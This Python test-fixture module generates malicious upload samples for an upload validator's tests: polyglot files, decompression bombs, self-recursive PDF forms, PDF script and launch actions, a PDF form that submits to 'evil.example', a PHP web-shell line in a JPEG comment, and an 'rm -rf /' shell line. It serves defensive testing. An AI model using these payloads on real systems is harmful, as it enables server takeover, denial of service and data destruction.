"""Relatives of the families of bad uploads that the field knows, made from nothing when they are asked for.

Each has a word for what must become of it: `refused`; `taken`, and then whole; `either`, refused or cleaned.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image, ImageDraw

from tests import uploads

MARK = b"MARK-OF-THE-ATTACKER"
SCRIPT = b"<script>alert('" + MARK + b"')</script>"
REFUSED, TAKEN, EITHER = "refused", "taken", "either"
Made = Callable[[], bytes]


def _archive(name: str = "x.html") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, SCRIPT)
    return out.getvalue()


def _saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def _drawing(mode: str = "RGB", size: tuple[int, int] = (400, 250)) -> Image.Image:
    """A picture with something to see in it."""
    picture = Image.effect_noise(size, 60).convert("RGB")
    ImageDraw.Draw(picture).rectangle((0, 0, size[0] // 2, size[1]), fill="white")
    return picture.convert(mode)


def _photo(**options: object) -> bytes:
    return _saved(_drawing(), "JPEG", **options)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_with(kind: bytes, data: bytes) -> bytes:
    """A PNG with one more chunk before its pixels."""
    whole = _saved(_drawing(), "PNG")
    at = whole.index(b"IDAT") - 4
    return whole[:at] + _png_chunk(kind, data) + whole[at:]


def _document(change: Callable[[pikepdf.Pdf], None], *, pages: int = 1, **saving: object) -> bytes:
    """A PDF with words on each page, changed before it is saved."""
    document = pikepdf.Pdf.new()
    for number in range(pages):
        page = document.add_blank_page(page_size=(420, 300))
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = document.make_stream(b"BT /F1 24 Tf 40 200 Td (Page %d of the paper) Tj ET" % (number + 1))
    change(document)
    out = io.BytesIO()
    document.save(out, **saving)
    return out.getvalue()


def _plain(_document: pikepdf.Pdf) -> None:
    """Nothing is changed."""


def _action(**keys: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(**keys)

    return change


def _page_action(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=MARK.decode()))


def _names_script(document: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=document.make_stream(MARK))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script])))


def _layers(document: pikepdf.Pdf) -> None:
    layer = document.make_indirect(Dictionary(Type=Name.OCG, Name="hidden"))
    document.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))


def _form(document: pikepdf.Pdf) -> None:
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="a", Rect=Array([10, 10, 90, 40]),
        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=MARK.decode())),
    )  # fmt: skip
    made = document.make_indirect(field)
    document.pages[0].Annots = Array([made])
    document.Root.AcroForm = Dictionary(Fields=Array([made]), XFA=document.make_stream(SCRIPT))


def _attachment(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = b"MZ" + MARK


def _rich_media(document: pikepdf.Pdf) -> None:
    media = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([10, 10, 90, 90]))
    document.pages[0].Annots = Array([document.make_indirect(media)])


def _turned_page(document: pikepdf.Pdf) -> None:
    document.pages[0].Rotate = 90


def _huge_page(document: pikepdf.Pdf) -> None:
    document.pages[0].MediaBox = Array([0, 0, 10**9, 10**9])


def _empty_page_box(document: pikepdf.Pdf) -> None:
    document.pages[0].MediaBox = Array([0, 0, 0, 0])


def _picture_that_unfolds(document: pikepdf.Pdf) -> None:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(30_000 * 100)) for _ in range(300)) + packer.flush()
    picture = document.make_stream(b"")
    picture.write(packed, filter=Name.FlateDecode)
    picture.stream_dict.update(
        Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=30_000, Height=30_000, BitsPerComponent=8,
                   ColorSpace=Name.DeviceGray)
    )  # fmt: skip
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=picture))
    document.pages[0].Contents = document.make_stream(b"q 400 0 0 300 0 0 cm /X Do Q")


def _forms_within_forms(document: pikepdf.Pdf) -> None:
    """Each form draws the next ten times: ten to the power of twelve drawings."""
    inner = document.make_stream(b"0 0 10 10 re f")
    inner.stream_dict.update(Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 420, 300])))
    for _ in range(12):
        outer = document.make_stream(b"/X Do " * 10)
        outer.stream_dict.update(
            Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 420, 300]),
                       Resources=Dictionary(XObject=Dictionary(X=inner)))
        )  # fmt: skip
        inner = outer
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=inner))
    document.pages[0].Contents = document.make_stream(b"/X Do")


def _form_within_itself(document: pikepdf.Pdf) -> None:
    form = document.make_stream(b"/X Do")
    form.stream_dict.update(Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 420, 300])))
    form.stream_dict.Resources = Dictionary(XObject=Dictionary(X=form))
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=form))
    document.pages[0].Contents = document.make_stream(b"/X Do")


def _count_that_lies(document: pikepdf.Pdf) -> None:
    document.Root.Pages.Count = 2_000_000_000


def _same_page_often(document: pikepdf.Pdf) -> None:
    document.Root.Pages.Kids = Array([document.pages[0].obj] * 500)
    document.Root.Pages.Count = 500


def _without_a_page(whole: bytes) -> bytes:
    """Three pages of which the object of one is gone: a repair would show two."""
    at = whole.index(b"/Contents", whole.index(b"/Contents") + 1)
    start = whole.rindex(b" obj", 0, at)
    return whole[: start - 3] + b"%" * 60 + whole[start + 57 :]


def _with_wrong_xref(whole: bytes) -> bytes:
    at = whole.rindex(b"startxref") + 10
    return whole[:at] + b"7\n%%EOF\n"


def _entropy_damaged() -> bytes:
    """A photo with zeros in the middle of its pixels: decoders warn at most, and show grey."""
    whole = bytearray(_photo(quality=92))
    half = len(whole) // 2
    whole[half : half + 400] = bytes(400)
    return bytes(whole)


def _many_scans() -> bytes:
    """A progressive photo that paints its last scan some thousand times."""
    whole = _saved(Image.new("L", (3000, 3000), 90), "JPEG", progressive=True)
    last = whole.rindex(b"\xff\xda")
    return whole[:-2] + whole[last:-2] * 4000 + b"\xff\xd9"


def _resized_jpeg(width: int, height: int) -> bytes:
    whole = bytearray(uploads.jpeg())
    at = whole.index(b"\xff\xc0") + 5
    whole[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(whole)


def _moving_png(frames: int = 3) -> bytes:
    pictures = [Image.new("RGB", (200, 120), colour) for colour in ("navy", "white", "red") * frames][:frames]
    return _saved(pictures[0], "PNG", save_all=True, append_images=pictures[1:])


def _two_pictures() -> bytes:
    return _saved(_drawing(), "MPO", save_all=True, append_images=[_drawing()])


def _turned_to(orientation: int) -> bytes:
    return uploads.jpeg(orientation=orientation)


LIGHT: dict[str, tuple[Made, str]] = {
    # honest files of every kind
    "black and white png": (lambda: _saved(_drawing("1"), "PNG"), TAKEN),
    "png with a see-through palette": (lambda: _saved(_drawing("P"), "PNG", transparency=0), TAKEN),
    "grey png with alpha": (lambda: _saved(_drawing("LA"), "PNG"), TAKEN),
    "cmyk photo": (lambda: _saved(_drawing("CMYK"), "JPEG"), TAKEN),
    "grey photo": (lambda: _saved(_drawing("L"), "JPEG"), TAKEN),
    "photo on its head": (lambda: _turned_to(3), TAKEN),
    "mirrored photo": (lambda: _turned_to(5), TAKEN),
    "photo of an unknown turn": (lambda: _turned_to(77), TAKEN),
    "photo with a broken profile": (lambda: _photo(icc_profile=b"not a profile" * 20), TAKEN),
    "photo with a long comment": (lambda: _photo(comment=SCRIPT * 500), TAKEN),
    "photo of two pictures": (_two_pictures, TAKEN),
    "moving png": (_moving_png, TAKEN),
    "turned pdf page": (lambda: _document(_turned_page), TAKEN),
    "pdf of packed objects": (
        lambda: _document(_plain, pages=3, object_stream_mode=pikepdf.ObjectStreamMode.generate), TAKEN),
    "linear pdf": (lambda: _document(_plain, pages=2, linearize=True), TAKEN),
    # two kinds at once
    "photo and archive": (lambda: _photo() + _archive(), EITHER),
    "photo and page": (lambda: _photo() + SCRIPT, EITHER),
    "photo with a program in its comment": (lambda: _photo(comment=b"<?php system($_GET[1]); ?>" + MARK), EITHER),
    "png and page": (lambda: _saved(_drawing(), "PNG") + SCRIPT, EITHER),
    "png and archive": (lambda: _saved(_drawing(), "PNG") + _archive(), EITHER),
    "pdf and archive": (lambda: _document(_plain) + _archive(), EITHER),
    "pdf behind a page": (lambda: b"<html>" + SCRIPT + _document(_plain), REFUSED),
    "pdf behind a picture": (lambda: b"GIF89a" + bytes(20) + _document(_plain), REFUSED),
    "pdf behind a program": (lambda: b"MZ" + bytes(100) + _document(_plain), REFUSED),
    "archive with a photo before it": (lambda: _archive("x.jpg") + _photo(), REFUSED),
    # disguised
    "svg": (lambda: b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', REFUSED),
    "page": (lambda: b"\xef\xbb\xbf  <!doctype html>" + SCRIPT, REFUSED),
    "word document": (lambda: _archive("word/document.xml"), REFUSED),
    "program of another system": (lambda: b"\x7fELF" + bytes(300), REFUSED),
    "shell": (lambda: b"#!/bin/sh\nrm -rf /\n", REFUSED),
    "icon": (lambda: _saved(Image.new("RGB", (32, 32)), "ICO"), REFUSED),
    "bitmap": (lambda: _saved(_drawing(), "BMP"), REFUSED),
    "webp": (lambda: _saved(_drawing(), "WEBP"), REFUSED),
    "tiff": (lambda: _saved(_drawing(), "TIFF"), REFUSED),
    "moving gif": (lambda: _saved(_drawing(), "GIF", save_all=True, append_images=[_drawing()]), REFUSED),
    "encapsulated postscript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n" + SCRIPT, REFUSED),
    "signature of a photo only": (lambda: b"\xff\xd8\xff\xe0", REFUSED),
    "signature of a pdf only": (lambda: b"%PDF-1.7\n", REFUSED),
    "pdf of words only": (lambda: b"%PDF-1.4\n" + SCRIPT * 30, REFUSED),
    "eicar behind the signature of a pdf": (
        lambda: b"%PDF-1.4\n" + rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", REFUSED),
    "one byte": (lambda: b"\xff", REFUSED),
    "zeros": (lambda: bytes(5000), REFUSED),
    "noise behind a signature": (lambda: b"\xff\xd8\xff\xe0" + random.Random(1).randbytes(4000), REFUSED),
    # too much in too little
    "photo of four gigapixels": (lambda: _resized_jpeg(65_000, 65_000), REFUSED),
    "png of four gigapixels": (lambda: uploads.png_of(65_000, 65_000), REFUSED),
    "png just over the limit": (lambda: uploads.png_of(8000, 7501), REFUSED),
    "png whose words unfold": (
        lambda: _png_with(b"zTXt", b"a\0\0" + zlib.compress(bytes(80_000_000), 9)), EITHER),
    "png whose profile unfolds": (
        lambda: _png_with(b"iCCP", b"a\0\0" + zlib.compress(bytes(80_000_000), 9)), EITHER),
    "pdf page of a thousand kilometres": (lambda: _document(_huge_page), REFUSED),
    "pdf page without size": (lambda: _document(_empty_page_box), EITHER),
    "pdf of one page shown 500 times": (lambda: _document(_same_page_often), REFUSED),
    "pdf form that draws itself": (lambda: _document(_form_within_itself), EITHER),
    # active content
    "pdf that starts a program": (
        lambda: _document(_action(S=Name.Launch, F=MARK.decode())), EITHER),
    "pdf that opens an address": (
        lambda: _document(_action(S=Name.URI, URI="https://evil.example/" + MARK.decode())), EITHER),
    "pdf that sends its form": (
        lambda: _document(_action(S=Name.SubmitForm, F="https://evil.example/")), EITHER),
    "pdf that opens another": (lambda: _document(_action(S=Name.GoToR, F="other.pdf")), EITHER),
    "pdf with an action of its page": (lambda: _document(_page_action), EITHER),
    "pdf with a named script": (lambda: _document(_names_script), EITHER),
    "pdf with a script in packed objects": (
        lambda: _document(_names_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), EITHER),
    "pdf with layers": (lambda: _document(_layers), EITHER),
    "pdf with a form of scripts": (lambda: _document(_form), EITHER),
    "pdf with a program inside": (lambda: _document(_attachment), EITHER),
    "pdf with rich media": (lambda: _document(_rich_media), EITHER),
    # passwords
    "pdf with an old password": (
        lambda: _document(_plain, encryption=pikepdf.Encryption(owner="a", user="b", R=3, aes=False, metadata=False)),
        REFUSED),
    "pdf with a new password": (
        lambda: _document(_plain, encryption=pikepdf.Encryption(owner="a", user="b", R=6)), REFUSED),
    # damaged, and what a quiet repair would lose
    "photo without its end": (lambda: _photo()[:-2], EITHER),
    "photo without its last tenth": (lambda: _photo()[: -len(_photo()) // 10], REFUSED),
    "photo with a hole": (_entropy_damaged, EITHER),
    "progressive photo cut off": (lambda: _photo(progressive=True)[:-2000], REFUSED),
    "png without its end": (lambda: _saved(_drawing(), "PNG")[:-12], EITHER),
    "png without its last rows": (lambda: _saved(_drawing(), "PNG")[:-3000], REFUSED),
    "pdf without its end": (lambda: _document(_plain, pages=3)[:-200], REFUSED),
    "pdf without its first half": (lambda: b"%PDF-1.7\n" + _document(_plain, pages=3)[800:], REFUSED),
    "pdf without one of its pages": (lambda: _without_a_page(_document(_plain, pages=3)), REFUSED),
    "pdf with a wrong table": (lambda: _with_wrong_xref(_document(_plain, pages=3)), REFUSED),
    "pdf with a count that lies": (lambda: _document(_count_that_lies), EITHER),
    "half a phone's photo": (lambda: uploads.heic()[: len(uploads.heic()) // 2], REFUSED),
}  # fmt: skip

HEAVY: dict[str, tuple[Made, str]] = {
    "photo of thousands of scans": (_many_scans, REFUSED),
    "pdf picture that unfolds": (lambda: _document(_picture_that_unfolds), EITHER),
    "pdf forms within forms": (lambda: _document(_forms_within_forms), EITHER),
    "pdf of two times packed gigabytes": (lambda: _twice_packed(), EITHER),
}


def _twice_packed(size: int = 2_000_000_000) -> bytes:
    packer = zlib.compressobj(9)
    block = b" " * 1_000_000
    once = b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()

    def change(document: pikepdf.Pdf) -> None:
        stream = document.make_stream(b"")
        stream.write(zlib.compress(once, 9), filter=Array([Name.FlateDecode, Name.FlateDecode]))
        document.pages[0].Contents = stream

    return _document(change)


def fuzzed(rounds: int, seed: int = 20261124) -> Iterator[tuple[str, bytes]]:
    """Good files in which a few bytes were changed, cut out or doubled."""
    rng = random.Random(seed)
    good = [("jpeg", _photo()), ("png", _saved(_drawing(), "PNG")), ("pdf", _document(_form, pages=2)),
            ("heic", uploads.heic())]  # fmt: skip
    for number in range(rounds):
        kind, content = good[number % len(good)]
        whole = bytearray(content)
        for _ in range(rng.randint(1, 12)):
            at, length = rng.randrange(16, len(whole)), rng.randint(1, 24)
            change = rng.randrange(3)
            whole[at : at + length] = (rng.randbytes(length), b"", whole[at : at + length] * 2)[change]
        yield f"{kind} {number}", bytes(whole)
